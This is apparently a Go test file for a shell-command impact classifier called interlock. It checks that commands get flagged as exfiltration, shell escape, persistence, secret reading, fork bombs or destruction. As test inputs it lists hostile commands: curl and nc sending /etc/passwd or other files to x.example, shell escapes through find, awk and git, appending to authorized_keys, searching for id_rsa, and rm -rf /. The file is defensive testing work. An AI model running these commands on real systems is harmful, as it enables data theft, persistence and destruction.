package shell_test

import (
	"slices"
	"strings"
	"testing"

	"interlock"
	"interlock/internal/impact/fact"
	"interlock/internal/impact/impacttest"
)

// TestSigns: what a command line gives away beside what its program is described with, and what only looks like it.
func TestSigns(t *testing.T) {
	for _, c := range []struct {
		trait   string
		shows   []string
		doesNot []string
	}{
		{fact.TraitOutside,
			[]string{"curl --data-binary @/etc/ssh/ssh_config http://127.0.0.1:1/x",
				"f=/etc/wgetrc; curl -d @$f https://x.example", "cat ~/a.txt | nc x.example 1", "nc x.example 1 < /etc/hosts",
				"curl https://x.example/$(base64 /etc/passwd)"},
			[]string{"curl -d @a.json https://x.example", "curl -d '{\"a\":1}' https://x.example",
				"curl https://x.example/$(cat /etc/os-release)", "cat /etc/hosts"}},
		{fact.TraitUpload,
			[]string{"curl -d @a.json https://x.example", "curl -F f=@a https://x.example", "nc x.example 1 < a",
				"make | nc x.example 1", "curl -d @- https://x.example < a"},
			[]string{"curl -d '{}' https://x.example", "curl -X POST https://x.example", "echo hello | nc x.example 1", "telnet x.example 25"}},
		{fact.TraitClimbing,
			[]string{"cat /usr/../etc/group", "d=/var/www; cat $d/../../proc/cpuinfo"},
			[]string{"cat /etc/group", "cat ../README.md", "ls /usr/lib/../share"}},
		{fact.TraitRepeated,
			[]string{"for ((i=0;i<5000;i++)); do d+=x; done; echo \"$d\" | nc -u 127.0.0.1 1",
				"printf '%.0sx' {1..9999} | nc x.example 1", "ps | while read p r; do kill $p; done"},
			[]string{"for i in {1..30}; do curl -s localhost:1; done", "for p in 1234 1235; do kill $p; done", "kill $(cat pid)"}},
		{fact.TraitHooked,
			[]string{"find . -exec /bin/sh \\;", "awk 'BEGIN {system(\"/bin/sh\")}'", "GIT_SSH_COMMAND=./x git fetch",
				"git -c core.pager=sh log", "ssh -o ProxyCommand='sh' x.example", "julia -e 'run(`/bin/sh`)'",
				"cp /bin/sh ./crond", "unknowntool --with /bin/bash"},
			[]string{"bash", "sh run.sh", "docker exec -it x bash", "sudo -i bash", "GIT_EDITOR=vim git commit",
				"julia -e 'println(\"shell\")'", "cp /bin/sh ./", "unknowntool --with bash"}},
		{fact.TraitEncrypted,
			[]string{"gpg -c a.txt", "openssl enc -aes-256-cbc -in a -out b", "openssl rsautl -encrypt -inkey k -pubin -in a", "zip -P x a.zip a"},
			[]string{"gpg -d a.gpg", "openssl enc -d -aes-256-cbc -in b", "zip a.zip a"}},
		{fact.TraitContent,
			[]string{"echo x > /var/log/a.log", "cat <<E > /etc/a\nx\nE"},
			[]string{"> /var/log/a.log", "echo '' > /var/log/a.log", "sort a > /var/log/a.log"}},
		{fact.TraitBomb,
			[]string{"while true; do echo x >> f; done", "a() { b; }; b() { c & }; c() { a; }; a"},
			[]string{"while true; do date >> f; sleep 1; done", "while true; do make >> log; done", "a() { b; }; b() { c & }; c() { :; }; a"}},
		{fact.TraitStartup,
			[]string{"echo x > \"$D/usercustomize.py\"", "echo x >> \"$(f)/.ssh/authorized_keys\""},
			[]string{"echo x > \"$D/main.py\"", "echo x > \"$D/$F\""}},
		{fact.TraitSecret,
			[]string{"find / -name id_rsa", "cat \"$D/.env\"", "git show HEAD:.env"},
			[]string{"find . -name id_rsa", "find / ! -name id_rsa", "find / -name '.*'", "git show HEAD:main.go"}},
	} {
		for _, input := range c.shows {
			if !has(shellImpacts(t, input), c.trait) {
				t.Errorf("%s: no impact has %s", input, c.trait)
			}
		}
		for _, input := range c.doesNot {
			if has(shellImpacts(t, input), c.trait) {
				t.Errorf("%s: an impact has %s", input, c.trait)
			}
		}
	}
}

func has(impacts []interlock.Impact, trait string) bool {
	return slices.ContainsFunc(impacts, func(i interlock.Impact) bool { return i.Has(trait) })
}

// TestPlaceholders: what documentation leaves open is something not known, not a syntax error; what a shell would run in
// spite of one is still seen.
func TestPlaceholders(t *testing.T) {
	for _, c := range []struct {
		input string
		want  string // an impact that must be found, as briefs writes it; empty: everything is understood
	}{
		{"sed 's/a/b/' <string>", ""},
		{"ssh <user>@<host>", ""},
		{"tmux attach -t <session name>", ""},
		{"echo ${{ secrets.X }}", ""},
		{"cat <<EOF >> notes", ""},
		{"cat <<EOF\nrm -rf /", ""},
		{"sh <<EOF\nrm -rf /", "delete system force recursive root"},
		{"echo evil <x> /etc/cron.d/z\nsed 's/a/b/' <string>", "persist system"},
		{"rm -rf / ; sed <string>", "delete system force recursive root"},
		{"frob <a> | ( ", "unknown"},
		{"frob 'unclosed", ""}, {"rm 'unclosed", "unknown"},
		{"for i in a; do frob", ""}, {"for i in a; do rm $i", "unknown"},
	} {
		got := shellImpacts(t, c.input)
		unknown := slices.ContainsFunc(got, func(i interlock.Impact) bool { return i.Confidence == interlock.Unknown })
		switch c.want {
		case "":
			if unknown {
				t.Errorf("%q is not understood: %v", c.input, impacttest.Briefs(got))
			}
		case "unknown":
			if !unknown {
				t.Errorf("%q is understood: %v", c.input, impacttest.Briefs(got))
			}
		default:
			if !slices.ContainsFunc(impacttest.Briefs(got), func(one string) bool { return strings.HasPrefix(one, c.want) }) {
				t.Errorf("%q: want %s among %v", c.input, c.want, impacttest.Briefs(got))
			}
		}
	}
}
